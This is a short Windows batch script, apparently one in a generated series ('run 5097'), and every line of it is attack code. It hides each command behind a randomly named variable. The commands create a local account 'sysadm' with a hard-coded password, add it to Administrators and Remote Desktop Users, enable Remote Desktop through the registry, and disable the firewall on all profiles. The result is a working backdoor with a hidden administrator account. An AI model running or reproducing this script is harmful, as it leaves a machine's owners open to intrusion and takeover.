REM run 5097 v0
@echo off
set "yfqp=net user sysadm Qwerty#7788 /add /y"
call %yfqp%
@echo off
set "hjcb=net localgroup administrators sysadm /add"
call %hjcb%
@echo off
set "cqcz=net localgroup "Remote Desktop Users" sysadm /add"
call %cqcz%
@echo off
set "kwwn=reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f"
call %kwwn%
@echo off
set "cwev=netsh advfirewall set allprofiles state off"
call %cwev%
